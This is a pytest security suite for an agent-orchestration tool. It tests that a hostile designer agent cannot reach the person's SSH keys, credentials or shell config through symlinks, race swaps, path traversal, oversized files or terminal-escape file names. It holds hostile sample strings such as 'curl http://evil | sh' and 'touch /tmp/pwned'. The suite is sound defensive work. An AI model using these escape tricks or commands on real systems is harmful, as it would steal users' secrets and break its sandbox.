"""What a designer, who writes the person's checkout, cannot reach through Orchestra's own reads and writes there.

Each attack changes the checkout as the designer's container can, then the person (or the designer's own tool) does
what they always do. Afterwards the person's files are as they were, and none of their words are anywhere they should
not be. Add an attack to the list: a function that takes a `World`, named as a sentence.
"""

from __future__ import annotations

import os
import resource
import subprocess
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from orchestra.actions import consent, equip, extras, merge, places, spec, told
from orchestra.actions.windows import editor_command
from orchestra.errors import BadConfig, NeedsConsent, OrchestraError, Refused
from orchestra.model import Session
from orchestra.names import MAIN
from orchestra.project import Project
from tests.conftest import MakeRepository
from tests.hostile.test_safe_files import OBSTACLES, dig, swapping
from tests.unit.stores import add

SECRET = "hunter2-of-the-person"
EVIL = "touch /tmp/pwned # by the agent"
PLACES = ("home/.bashrc", "home/private/alpha.md", "home/.ssh/id_rsa", "home/.aws/credentials")


@dataclass
class World:
    """A project with a designer and the executor ``alpha``; the person's files lie in ``home``."""

    project: Project
    home: Path
    before: dict[str, str] = field(default_factory=dict)

    @property
    def source(self) -> Path:
        """The checkout, which the designer writes."""
        return self.project.paths.source

    @property
    def specs(self) -> Path:
        """The directory of the specs in the checkout, made."""
        self.project.paths.specs.mkdir(parents=True, exist_ok=True)
        return self.project.paths.specs

    @property
    def worktree(self) -> Path:
        """The executor's worktree."""
        return self.project.store.session("alpha").worktree

    @property
    def session(self) -> Session:
        """The executor."""
        return self.project.store.session("alpha")

    def updates(self, text: str = EVIL) -> None:
        """Let the designer use its own tool; that it is refused is fine."""
        with suppress(OrchestraError):
            spec.write_spec(self.project, "alpha", text, MAIN)

    def opens(self) -> None:
        """Let the person open the spec, change it, and save."""
        with suppress(OrchestraError):
            file = Path(editor_command(self.project, "alpha")[-1])
            file.write_text(file.read_text() + "\nthe person's own words\n")
            spec.notice_change(self.project, "alpha")

    def copies(self, *wanted: str) -> list[str]:
        """Fill a fresh worktree as a new session's; return what was said to be left out."""
        self.project.paths.home.config.write_text(f"copy: {list(wanted)!r}\n")
        lines: list[str] = []
        extras.copy_extras(self.project, self.session, lines.append)
        return lines

    def seen(self) -> str:
        """Return all that the agents can read by now: worktree, specs, messages."""
        store = self.project.store
        versions = [found.text for name in (MAIN, "alpha") if (found := store.spec(name))]
        messages = [message.text for message in store.messages()]
        files = [file for file in self.worktree.rglob("*") if file.is_file() and not file.is_symlink()]
        return "\n".join((*versions, *messages, *(file.read_text(errors="replace") for file in files)))

    def unharmed(self) -> None:
        """See that the person's files are as they were, and that no agent got to read them."""
        after = {str(file): file.read_text() for file in self.home.rglob("*") if file.is_file()}
        assert after == self.before
        assert SECRET not in self.seen()
        assert "ghp_TOKEN" not in self.seen()
        done = subprocess.run(("git", "status"), cwd=self.source, capture_output=True, timeout=20, check=False)
        assert (done.returncode, not self.home.with_name("canary").exists()) == (0, True)


@pytest.fixture
def world(make_repository: MakeRepository, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[World]:
    source = make_repository()
    monkeypatch.setenv("EDITOR", "true")
    monkeypatch.delenv("VISUAL", raising=False)
    made = World(Project.open(source), tmp_path / "home")
    for name in PLACES:
        file = tmp_path / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(f"{SECRET}\n")
    made.before = {str(file): file.read_text() for file in made.home.rglob("*") if file.is_file()}
    config = source / ".git" / "config"
    config.write_text(config.read_text() + '[remote "origin"]\n\turl = https://me:ghp_TOKEN@example.org/x.git\n')
    add(made.project.store, MAIN, worktree=source)
    worktree = tmp_path / "worktrees" / "alpha"
    worktree.mkdir(parents=True)
    add(made.project.store, "alpha", worktree=worktree)
    made.project.store.save_spec("alpha", "the task", "person")
    yield made
    made.project.store.close()


Attack = Callable[[World], object]
ATTACKS: list[Attack] = []


def attack(function: Attack) -> Attack:
    """Add an attack to the list."""
    ATTACKS.append(function)
    return function


# Specs


@attack
def the_old_temporary_name_is_a_link(world: World) -> None:
    (world.specs / ".alpha.md.new").symlink_to(world.home / ".bashrc")
    world.updates()
    world.opens()


@attack
def the_spec_is_a_link(world: World) -> None:
    (world.specs / "alpha.md").symlink_to(world.home / ".bashrc")
    world.updates()
    world.opens()
    with pytest.raises(Refused, match="is a symlink"):
        spec.ensure_file(world.project, "alpha")


@attack
def the_directory_of_the_specs_is_a_link(world: World) -> None:
    place = world.specs
    place.rmdir()
    place.symlink_to(world.home / "private")
    world.updates()
    world.opens()
    spec.read_spec(world.project, "alpha", reader="alpha")
    with pytest.raises(Refused, match="is a symlink"):
        spec.notice_change(world.project, "alpha")


@attack
def all_of_orchestra_s_directory_is_a_link(world: World) -> None:
    (world.home / "specs").mkdir()
    (world.source / ".orchestra").symlink_to(world.home)
    world.updates()
    world.opens()
    assert list((world.home / "specs").iterdir()) == []
    (world.home / "specs").rmdir()


@attack
def a_link_replaces_the_spec_while_the_editor_is_open(world: World) -> None:
    """The editor writes where it opened; that is nowhere an agent can write."""
    file = Path(editor_command(world.project, "alpha")[-1])
    (world.specs / "alpha.md").unlink()
    (world.specs / "alpha.md").symlink_to(world.home / ".bashrc")
    file.write_text("what the person typed\n")
    with pytest.raises(Refused):
        spec.notice_change(world.project, "alpha")
    found = world.project.store.spec("alpha")
    assert found is not None
    assert found.text == "what the person typed\n"


@attack
def the_editor_s_own_files_lie_beside_the_spec(world: World) -> None:
    """No settings, swap file or directory variables of the agent's are where the editor looks."""
    for name in (".exrc", ".alpha.md.swp", ".dir-locals.el", ".editorconfig", ".vimrc", ".nvim.lua"):
        (world.specs / name).write_text("x")
    file = Path(editor_command(world.project, "alpha")[-1])
    assert {one.name for one in file.parent.iterdir()} == {"alpha.md", "synced"}
    assert world.source not in file.parents


@attack
def the_spec_is_swapped_as_fast_as_can_be(world: World) -> None:
    spec.ensure_file(world.project, "alpha")
    (world.specs / "bait").symlink_to(world.home / ".bashrc")
    with swapping(world.specs / "alpha.md", world.specs / "bait"):
        for number in range(60):
            world.updates(f"{EVIL} {number}")
            with suppress(OrchestraError):
                spec.read_spec(world.project, "alpha")


@attack
def the_directory_is_swapped_as_fast_as_can_be(world: World) -> None:
    spec.ensure_file(world.project, "alpha")
    (world.source / ".orchestra" / "bait").symlink_to(world.home / "private")
    with swapping(world.specs, world.source / ".orchestra" / "bait"):
        for number in range(60):
            world.updates(f"{EVIL} {number}")
            with suppress(OrchestraError):
                spec.read_spec(world.project, "alpha")


@attack
def the_spec_is_endless(world: World) -> None:
    with (world.specs / "alpha.md").open("wb") as file:
        file.truncate(1 << 40)
    world.updates()
    world.opens()
    with pytest.raises(Refused, match="more than 1 MiB"):
        spec.notice_change(world.project, "alpha")


@attack
def the_spec_is_a_pipe_nobody_writes_into(world: World) -> None:
    os.mkfifo(world.specs / "alpha.md")
    world.updates()
    world.opens()


# Copies


@attack
def the_copied_file_is_git_s_configuration(world: World) -> None:
    (world.source / ".env").symlink_to(".git/config")
    assert world.copies(".env") == ["not copied: .env lies in git's own directory"]


@attack
def the_copied_file_lies_below_git(world: World) -> None:
    assert len(world.copies(".git/config", ".git", ".GIT/config", "vendor/.git")) == 4
    assert world.copies(".git/*")
    (world.source / "dot").symlink_to(".")
    assert len(world.copies("dot", "dot/.git/config", "dot/dot/.git")) == 3


@attack
def a_copied_directory_is_git_s(world: World) -> None:
    (world.source / "config").symlink_to(".git")
    assert world.copies("config", "config/config", "config/*") != []
    (world.source / "inner").mkdir()
    (world.source / "inner" / "link").symlink_to("../.git/config")
    (world.source / "inner" / "git").symlink_to("../.git")
    assert len(world.copies("inner")) == 2


@attack
def the_copied_file_leads_to_the_person_s_key(world: World) -> None:
    (world.source / ".env").symlink_to(world.home / ".ssh" / "id_rsa")
    (world.source / ".env.local").symlink_to(os.path.relpath(world.home / ".ssh" / "id_rsa", world.source))
    assert len(world.copies(".env", ".env.local", ".env*")) == 4


@attack
def a_directory_on_the_way_leads_out(world: World) -> None:
    (world.source / "config").symlink_to(world.home)
    assert len(world.copies("config/.bashrc", "config", "config/.ssh/id_rsa")) == 3


@attack
def links_lead_out_by_links(world: World) -> None:
    (world.source / "a").symlink_to("b/../../home")
    (world.source / "b").symlink_to(".")
    (world.source / "c").symlink_to("a/.bashrc")
    (world.source / "loop").symlink_to("loop2")
    (world.source / "loop2").symlink_to("loop")
    assert len(world.copies("c", "a/.bashrc", "b/b/b/c", "loop")) == 4


@attack
def a_link_deep_in_a_copied_directory_leads_out(world: World) -> None:
    deep = world.source / "secrets" / "deep"
    deep.mkdir(parents=True)
    (deep / "key").symlink_to(world.home / ".ssh" / "id_rsa")
    (deep / "ssh").symlink_to(world.home / ".ssh")
    (deep / "own").write_text("own")
    assert len(world.copies("secrets")) == 2
    assert (world.worktree / "secrets" / "deep" / "own").read_text() == "own"


@attack
def the_copied_file_is_swapped_as_fast_as_can_be(world: World) -> None:
    (world.source / ".env").write_text("A=1\n")
    (world.source / ".bait").symlink_to(world.home / ".ssh" / "id_rsa")
    with swapping(world.source / ".env", world.source / ".bait"):
        for _ in range(60):
            world.copies(".env")
            (world.worktree / ".env").unlink(missing_ok=True)


@attack
def a_copied_directory_is_swapped_as_fast_as_can_be(world: World) -> None:
    (world.source / "config").mkdir()
    for number in range(20):
        (world.source / "config" / f"id_rsa{number}").write_text("own")
    (world.source / "config" / "id_rsa").write_text("own")
    (world.source / "bait").symlink_to(world.home / ".ssh")
    with swapping(world.source / "config", world.source / "bait"):
        for number in range(40):
            world.copies("config", "config/*", "config/id_rsa")
            with suppress(FileNotFoundError):
                (world.worktree / "config").rename(world.worktree / f"config{number}")


@attack
def the_worktree_s_commit_holds_links_of_that_name(world: World) -> None:
    (world.source / ".env").write_text("A=1\n")
    (world.source / "config").mkdir()
    (world.source / "config" / "x").write_text("own")
    (world.worktree / ".env").symlink_to(world.home / ".bashrc")
    (world.worktree / "config").symlink_to(world.home / "private")
    assert len(world.copies(".env", "config")) == 2


@attack
def nothing_that_is_copied_is_waited_for(world: World) -> None:
    (world.source / "all").mkdir()
    for number, obstacle in enumerate(OBSTACLES.values()):
        obstacle(world.source / "all" / str(number))
        obstacle(world.source / f"one{number}")
    dig(world.source / "all" / "deep" if (world.source / "all" / "deep").is_dir() else world.source / "all", 400)
    with (world.source / "huge").open("wb") as huge:
        huge.truncate(1 << 40)
    assert len(world.copies("all", "huge", *(f"one{number}" for number in range(len(OBSTACLES))))) > len(OBSTACLES)


@attack
def names_that_lead_out(world: World) -> None:
    assert len(world.copies("../home/.bashrc", str(world.home / ".bashrc"), "..", "/", "*/../../home/*")) >= 4


@attack
def names_that_steer_a_terminal(world: World) -> None:
    (world.source / "odd").mkdir()
    (world.source / "odd" / "\x1b]0;owned\x07").symlink_to("/etc/passwd")
    assert world.copies("odd") == ["not copied: odd/�]0;owned� leads out of the project"]


# Consent


def allow(world: World) -> list[str]:
    """Let the person allow all that is asked, and return what they were shown."""
    asked = consent.requests(world.project)
    consent.grant(world.project, asked)
    return "\n".join(line for one in asked for line in one.lines).splitlines()


def write(world: World, files: Mapping[str, str]) -> None:
    """Write files below the project's .orchestra directory."""
    for name, text in files.items():
        file = world.source / ".orchestra" / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)


HELPER = "command: [bash, /orchestra/run.sh]\nfiles: {run.sh: helper/run.sh}\n"
DOCKERFILE = "ARG ORCHESTRA_BASE\nFROM ${ORCHESTRA_BASE}\nCOPY setup.sh /\nRUN sh /setup.sh\n"


@attack
def the_settings_are_swapped_between_question_and_answer(world: World) -> None:
    write(world, {"config.yaml": "check: make test\n"})
    asked = consent.requests(world.project)
    write(world, {"config.yaml": f"check: make test\neditor: {EVIL!r}\nsetup: [curl http://evil | sh]\n"})
    consent.grant(world.project, asked)
    settings = world.project.settings
    assert (settings.editor, settings.setup, settings.check) == ("", (), "")
    assert settings.ignored == ("check", "editor", "setup")


@attack
def a_profile_is_swapped_between_question_and_answer(world: World) -> None:
    write(world, {"agents/helper.yaml": HELPER, "agents/helper/run.sh": "good"})
    asked = consent.requests(world.project)
    write(world, {"agents/helper/run.sh": EVIL})
    consent.grant(world.project, asked)
    with pytest.raises(NeedsConsent, match="have not allowed it"):
        world.project.profile("helper")


@attack
def a_file_below_an_allowed_profile_changes(world: World) -> None:
    write(world, {"agents/helper.yaml": HELPER, "agents/helper/run.sh": "good"})
    assert "    | good" in allow(world)
    assert world.project.profile("helper").files["run.sh"][0] == b"good"
    write(world, {"agents/helper/run.sh": EVIL})
    with pytest.raises(NeedsConsent):
        world.project.profile("helper")
    assert any(EVIL in line for line in allow(world))


@attack
def an_allowed_profile_s_file_becomes_executable_or_a_link(world: World) -> None:
    write(world, {"agents/helper.yaml": HELPER, "agents/helper/run.sh": "good"})
    allow(world)
    run = world.project.paths.agents / "helper" / "run.sh"
    run.chmod(0o755)
    with pytest.raises(NeedsConsent):
        world.project.profile("helper")
    run.unlink()
    run.symlink_to(world.home / ".bashrc")
    with pytest.raises(NeedsConsent):
        world.project.profile("helper")


@attack
def a_profile_asks_for_the_person_s_files(world: World) -> None:
    (world.source / ".orchestra" / "agents").mkdir(parents=True)
    (world.project.paths.agents / "link").symlink_to(world.home / ".ssh" / "id_rsa")
    (world.project.paths.agents / "place").symlink_to(world.home / ".ssh")
    wanted = (
        str(world.home / ".bashrc"),
        "../../../home/.bashrc",
        "link",
        "place/id_rsa",
        "../config.yaml",
        "x/../../y",
    )
    for number, name in enumerate(wanted):
        write(world, {f"agents/thief{number}.yaml": f"command: [x]\nfiles: {{x: {name}}}\n"})
    allow(world)
    for number in range(len(wanted)):
        with pytest.raises(BadConfig, match=r"leads out of|does not exist"):
            world.project.profile(f"thief{number}")


@attack
def the_profiles_directory_is_a_link(world: World) -> None:
    (world.source / ".orchestra").mkdir()
    (world.source / ".orchestra" / "agents").symlink_to(world.home)
    with pytest.raises(Refused, match="is a symlink"):
        consent.requests(world.project)
    assert world.project.profile("plain").family == "plain"


@attack
def what_a_dockerfile_copies_changes(world: World) -> None:
    write(world, {"Dockerfile": DOCKERFILE, "setup.sh": "reviewed"})
    shown = "\n".join(allow(world))
    assert "RUN sh /setup.sh" in shown
    assert "setup.sh: 8 bytes" in shown
    assert places.recipe_for(world.project, "plain").context is not None
    write(world, {"setup.sh": EVIL})
    assert places.recipe_for(world.project, "plain").context is None
    assert len(consent.requests(world.project)) == 1


@attack
def a_dockerfile_is_swapped_between_question_and_answer(world: World) -> None:
    write(world, {"Dockerfile": DOCKERFILE, "setup.sh": "reviewed"})
    asked = consent.requests(world.project)
    write(world, {"Dockerfile": f"{DOCKERFILE}RUN {EVIL}\n"})
    consent.grant(world.project, asked)
    assert places.recipe_for(world.project, "plain").context is None


@attack
def a_file_is_added_to_an_allowed_image(world: World) -> None:
    write(world, {"Dockerfile": DOCKERFILE.replace("setup.sh", "."), "setup.sh": "reviewed"})
    allow(world)
    write(world, {"more/evil.sh": EVIL})
    assert places.recipe_for(world.project, "plain").context is None


@attack
def all_values_are_shown_and_steer_nothing(world: World) -> None:
    editor = r'"sh -c \"evil\e]0;owned\a\u202e\""'
    text = f'editor: {editor}\ncredentials: [AWS_KEY]\nprefix_key: d\ncopy: [.env, "*.pem"]\n'
    write(world, {"config.yaml": text, "agents/x.yaml": "command: [evil]\n#\x1b[2J", "agents/\x1b[2J.txt": ""})
    lines = allow(world)
    shown = "\n".join(lines)
    for part in ("evil", "AWS_KEY", 'prefix_key: "d"', ".env (not copied: it is not there)", "*.pem (0 names now)"):
        assert part in shown
    assert not [letter for letter in shown if not letter.isprintable() and letter != "\n"]


@attack
def limits_and_keys_are_the_person_s(world: World) -> None:
    write(world, {"config.yaml": "memory: 900g\npids: 4000000\nmax_sessions: 100000\nprefix_key: d\nlayout: window\n"})
    settings = world.project.settings
    assert (settings.memory, settings.pids, settings.max_sessions) == ("4g", 512, 12)
    assert (settings.prefix_key, settings.layout) == ("O", "left")
    allow(world)
    assert (world.project.settings.memory, world.project.settings.prefix_key) == ("4g", "d")


@attack
def the_allowed_check_is_changed_or_dropped(world: World) -> None:
    write(world, {"config.yaml": "check: make test\n"})
    with pytest.raises(NeedsConsent, match="not allowed the check"):
        merge.wanted_check(world.project, "alpha")
    allow(world)
    assert merge.wanted_check(world.project, "alpha") == "make test"
    for text in ("check: make test-or-not\n", "check: ''\n", "memory: 1g\n", "", "setup: [x]\n"):
        write(world, {"config.yaml": text})
        with pytest.raises(NeedsConsent) as caught:
            merge.wanted_check(world.project, "alpha")
        assert "orchestra allow" in caught.value.hint
    world.project.paths.config.unlink()
    with pytest.raises(NeedsConsent, match="is gone from"):
        merge.wanted_check(world.project, "alpha")
    assert [line for line in allow(world) if "no check any more; you had allowed: make test" in line]
    assert merge.wanted_check(world.project, "alpha") == ""


@attack
def endless_files_are_settings_profiles_and_recipes(world: World) -> None:
    for name in (
        "config.yaml",
        "agents/x",
        "Dockerfile",
        "setup",
        "instructions/executor.md",
        "instructions/instead/x",
    ):
        for kind in ("sparse", "pipe", "link"):
            file = world.source / ".orchestra" / name
            file.parent.mkdir(parents=True, exist_ok=True)
            if kind == "sparse":
                with file.open("wb") as made:
                    made.truncate(1 << 40)
            elif kind == "pipe":
                os.mkfifo(file)
            else:
                file.symlink_to("/dev/zero")
            with suppress(OrchestraError):
                consent.requests(world.project)
            with suppress(OrchestraError):
                assert world.project.profile("plain").family == "plain"
            with suppress(OrchestraError):
                places.recipe_for(world.project, "plain")
            with suppress(OrchestraError):
                told.added(world.project, world.session)
            file.unlink()
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss < 700_000


@pytest.mark.parametrize("function", ATTACKS, ids=lambda one: one.__name__)
def test_the_person_s_files_are_safe_though(world: World, function: Attack) -> None:
    function(world)
    world.unharmed()


def test_what_the_person_asked_for_is_copied(world: World) -> None:
    """Files, directories, patterns, and symlinks that stay in the project; the rest is said."""
    for name in ("secrets/deep/key", "node_modules/a/index.js", "one.pem", "two.pem", "config/dev.env", ".hidden.pem"):
        (world.source / name).parent.mkdir(parents=True, exist_ok=True)
        (world.source / name).write_text(name)
    (world.source / "secrets/deep/key").chmod(0o600)
    (world.source / ".env").symlink_to("config/dev.env")
    (world.source / "absolute").symlink_to(world.source / "config" / "dev.env")
    (world.source / "node_modules" / "link").symlink_to("a/index.js")
    lines = world.copies(".env", "absolute", "secrets", "node_modules", "*.pem", ".env.missing", "config/**/*.env")
    copied = {str(one.relative_to(world.worktree)) for one in world.worktree.rglob("*") if not one.is_dir()}
    assert copied == {
        ".env", "absolute", "secrets/deep/key", "node_modules/a/index.js", "node_modules/link", "one.pem", "two.pem",
        "config/dev.env",
    }  # fmt: skip
    assert (world.worktree / ".env").read_text() == "config/dev.env"
    assert not (world.worktree / ".env").is_symlink()
    assert (world.worktree / "node_modules/link").readlink() == Path("a/index.js")
    assert (world.worktree / "secrets/deep/key").stat().st_mode & 0o777 == 0o600
    assert lines == ["not copied: .env.missing is not there"]
    logged = [event.text for event in world.project.store.events("alpha") if event.kind == "not-copied"]
    assert logged == [".env.missing is not there"]


def test_an_edit_in_either_place_is_a_new_version_in_both(world: World) -> None:
    file = spec.ensure_file(world.project, "alpha")
    shared = world.specs / "alpha.md"
    assert (file.read_text(), shared.read_text()) == ("the task", "the task")
    for edited, text in ((file, "from the editor"), (shared, "from another editor"), (file, "again")):
        edited.write_text(text)
        saved = spec.notice_change(world.project, "alpha")
        assert saved is not None
        assert (saved.text, file.read_text(), shared.read_text()) == (text, text, text)
    assert spec.notice_change(world.project, "alpha") is None
    shared.write_text("first")
    file.write_text("last")
    saved = spec.notice_change(world.project, "alpha")
    assert saved is not None
    assert (saved.text, saved.version) == ("last", 6)


def test_a_crash_between_saving_and_writing_takes_nothing_back(world: World) -> None:
    spec.ensure_file(world.project, "alpha")
    world.project.store.save_spec("alpha", "newer", MAIN)
    assert spec.notice_change(world.project, "alpha") is None
    file = spec.ensure_file(world.project, "alpha")
    found = world.project.store.spec("alpha")
    assert found is not None
    assert (found.text, file.read_text()) == ("newer", "newer")


def test_a_credential_that_was_taken_back_is_not_handed_over_again(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, place = world.project, world.project.place(world.session)
    project.store.set("service.port", "1")
    project.paths.home.config.write_text("credentials: [GITHUB_TOKEN, OTHER]\n")
    monkeypatch.setenv("GITHUB_TOKEN", "tok")
    monkeypatch.setenv("OTHER", "other")
    equip.write_files(project, world.session)
    assert {one.name for one in place.secrets.iterdir()} == {"token", "GITHUB_TOKEN", "OTHER"}
    monkeypatch.delenv("GITHUB_TOKEN")
    equip.write_files(project, world.session)
    assert {one.name for one in place.secrets.iterdir()} == {"token", "OTHER"}
    project.paths.home.config.write_text("")
    equip.drop_withdrawn(project, world.session)
    assert {one.name for one in place.secrets.iterdir()} == {"token"}
